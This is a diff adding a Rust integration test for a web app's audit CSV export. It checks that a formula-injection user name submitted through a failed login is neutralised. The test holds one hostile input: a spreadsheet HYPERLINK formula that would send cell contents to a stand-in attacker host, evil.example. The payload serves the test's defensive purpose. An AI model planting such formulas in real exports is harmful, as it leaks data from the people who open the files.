@@ -1,0 +1,78 @@
+//! Attacks on the staff pages and the API, on SQLite and on PostgreSQL: a formula planted in
+//! the audit log by a failed login.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod common;
+
+use axum::body::Body;
+use axum::http::{HeaderMap, Request, StatusCode, header};
+use common::{Client, user};
+use doorstep_core::Role;
+use doorstep_testkit::{TestDb, both_backends};
+use http_body_util::BodyExt;
+use serde_json::json;
+use tower::ServiceExt;
+
+/// One request with optional cookie, Host and form body.
+async fn send(
+    app: &axum::Router,
+    method: &str,
+    uri: &str,
+    cookie: Option<&str>,
+    host: Option<&str>,
+    form: Option<String>,
+) -> (StatusCode, HeaderMap, String) {
+    let mut req = Request::builder().method(method).uri(uri);
+    if let Some(c) = cookie {
+        req = req.header(header::COOKIE, c);
+    }
+    if let Some(h) = host {
+        req = req.header(header::HOST, h);
+    }
+    if form.is_some() {
+        req = req.header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
+    }
+    let req = req.body(form.map_or_else(Body::empty, Body::from)).unwrap();
+    let res = app.clone().oneshot(req).await.unwrap();
+    let (st, h) = (res.status(), res.headers().clone());
+    let bytes = res.into_body().collect().await.unwrap().to_bytes();
+    (st, h, String::from_utf8_lossy(&bytes).into_owned())
+}
+
+both_backends!(
+    a_user_name_planted_by_a_failed_login_is_inert_in_the_audit_csv,
+    async |db: &TestDb| {
+        let store = db.store.as_ref();
+        doorstep_testkit::demo_community(store).await;
+        user(store, "root", Role::Admin, "二七区").await;
+        let planted = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+        let mut anon = Client::new(db.store.clone());
+        let (st, _, _) = anon
+            .send(
+                "POST",
+                "/api/v1/auth/login",
+                Some(json!({"username": planted, "password": "guess"})),
+            )
+            .await;
+        assert_eq!(st, StatusCode::UNAUTHORIZED);
+
+        anon.login("root").await;
+        let cookie = format!("doorstep_session={}", anon.token.clone().unwrap());
+        let (st, _, text) = send(&anon.app, "GET", "/audit.csv", Some(&cookie), None, None).await;
+        assert_eq!(st, StatusCode::OK);
+        let mut rdr = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let rows: Vec<Vec<String>> = rdr
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        let failed = rows.iter().find(|r| r[3] == "login_failed").unwrap();
+        assert_eq!(failed[1], format!("'{planted}"));
+        for cell in rows.iter().flatten() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+);
+
